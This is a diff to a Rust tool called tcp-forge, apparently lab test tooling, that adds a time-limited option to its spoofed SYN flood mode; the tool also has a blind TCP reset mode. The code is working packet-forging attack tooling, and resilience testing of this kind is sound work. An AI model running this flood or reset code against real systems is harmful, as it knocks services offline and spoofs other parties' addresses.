@@ -3,11 +3,11 @@
 //! attack tests run it in the lab's client namespace against the VIP.
 //!
 //! ```text
-//! tcp-forge syn --target ADDR:PORT --count N --sources A.B.C.D/LEN [--seed S]
+//! tcp-forge syn --target ADDR:PORT (--count N | --seconds S) --sources A.B.C.D/LEN [--seed S]
 //! tcp-forge rst --target ADDR:PORT --client A.B.C.D --ports P[,P...] [--seed S]
 //! ```
-//! `syn`: N SYNs from random addresses of `--sources` and random ports, as fast as the socket
-//! takes them (a spoofed SYN flood). `rst`: one RST with a random sequence number from
+//! `syn`: N SYNs (or as many as S seconds take) from random addresses of `--sources` and random
+//! ports, as fast as the socket takes them (a spoofed SYN flood). `rst`: one RST with a random sequence number from
 //! `--client` at each port (a blind reset). Prints `sent N in T s` on stderr when done.
 
 use std::{
@@ -28,8 +28,16 @@ impl Rng {
 }
 
 enum Mode {
-    Syn { count: u64, net: u32, len: u8 },
-    Rst { client: Ipv4Addr, ports: Vec<u16> },
+    Syn {
+        count: u64,
+        seconds: Option<f64>,
+        net: u32,
+        len: u8,
+    },
+    Rst {
+        client: Ipv4Addr,
+        ports: Vec<u16>,
+    },
 }
 
 struct Args {
@@ -43,12 +51,17 @@ fn parse_args() -> Result<Args, String> {
     let mode = it.next().ok_or("need a mode: syn or rst")?;
     let (mut target, mut count, mut sources, mut client, mut ports, mut seed) =
         (None, 100_000u64, None, None, Vec::new(), 1u64);
+    let mut seconds = None;
     while let Some(flag) = it.next() {
         let value = it.next().ok_or_else(|| format!("{flag} needs a value"))?;
         let bad = |e: &dyn std::fmt::Display| format!("{flag} {value}: {e}");
         match flag.as_str() {
             "--target" => target = Some(value.parse().map_err(|e| bad(&e))?),
             "--count" => count = value.parse().map_err(|e| bad(&e))?,
+            "--seconds" => {
+                seconds = Some(value.parse().map_err(|e| bad(&e))?);
+                count = u64::MAX;
+            }
             "--sources" => {
                 let (addr, len) = value
                     .split_once('/')
@@ -75,7 +88,12 @@ fn parse_args() -> Result<Args, String> {
     let mode = match mode.as_str() {
         "syn" => {
             let (net, len) = sources.ok_or("syn needs --sources")?;
-            Mode::Syn { count, net, len }
+            Mode::Syn {
+                count,
+                seconds,
+                net,
+                len,
+            }
         }
         "rst" => Mode::Rst {
             client: client.ok_or("rst needs --client")?,
@@ -157,7 +175,13 @@ fn main() {
     let started = Instant::now();
     let (mut sent, mut failed) = (0u64, 0u64);
     match args.mode {
-        Mode::Syn { count, net, len } => {
+        Mode::Syn {
+            count,
+            seconds,
+            net,
+            len,
+        } => {
+            let until = seconds.map(|s| started + std::time::Duration::from_secs_f64(s));
             let host_bits = if len == 0 {
                 u32::MAX
             } else {
@@ -165,7 +189,10 @@ fn main() {
             };
             let net = net & !host_bits;
             eprintln!("flooding");
-            for _ in 0..count {
+            for n in 0..count {
+                if n % 1024 == 0 && until.is_some_and(|t| Instant::now() >= t) {
+                    break;
+                }
                 let src = Ipv4Addr::from(net | (rng.next_u32() & host_bits));
                 let sport = 1024 + (rng.next_u32() % 64_000) as u16;
                 if send(&segment(src, sport, args.target, rng.next_u32(), 0x02)) {
